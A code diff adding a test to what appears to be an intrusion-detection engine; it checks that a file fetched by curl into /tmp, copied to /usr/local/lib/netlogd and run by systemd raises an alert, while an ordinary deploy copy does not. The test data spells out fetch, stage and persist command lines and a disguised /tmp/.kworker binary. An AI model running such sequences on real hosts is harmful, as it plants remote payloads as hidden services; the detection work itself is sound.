@@ -289,6 +289,23 @@ def test_a_burst_of_account_and_persistence_changes_adds_up_in_one_incident(engi
         verdicts[0].techniques)
 
 
+def test_a_copy_of_a_staged_file_carries_its_history_to_where_a_service_runs_it(engine):
+    """`cp /tmp/.t /usr/local/lib/netlogd`, then systemd runs it: the copy is as suspect as what it copied."""
+    session = Session()
+    fetched = [session.exec("curl -s -o /tmp/.t http://10.0.0.8/t", 300, "bash", uid=0),
+               session.exec("cp /tmp/.t /usr/local/lib/netlogd", 300, "bash", uid=0)]
+    run = session.exec("/usr/local/lib/netlogd", 1, "systemd", uid=0, path="/usr/local/lib/netlogd", gap=60)
+    verdict = _score(engine, [*fetched, run])[-1]
+    assert verdict.severity == "alert", verdict
+    assert any("downloaded by curl, then written by cp" in r for r in verdict.reasons), verdict.reasons
+    staged = [session.exec("cp /tmp/.u /usr/local/lib/other", 400, "bash", uid=0),
+              session.exec("/usr/local/lib/other", 1, "systemd", uid=0, path="/usr/local/lib/other", gap=60)]
+    assert any("written by cp from /tmp/.u" in r for r in _score(engine, staged)[-1].reasons)
+    deployed = [session.exec("cp /srv/release/app /usr/local/bin/app", 500, "bash", uid=0),
+                session.exec("/usr/local/bin/app", 1, "systemd", uid=0, path="/usr/local/bin/app", gap=60)]
+    assert _score(engine, deployed)[-1].severity != "alert"  # a deploy: copied from no staging place
+
+
 def test_a_script_that_copies_chmods_and_runs_a_temp_binary_alerts_on_its_own(engine):
     session = Session()
     line = "sh -c cp /bin/sleep /tmp/.kworker; chmod 755 /tmp/.kworker; /tmp/.kworker 1; rm -f /tmp/.kworker"
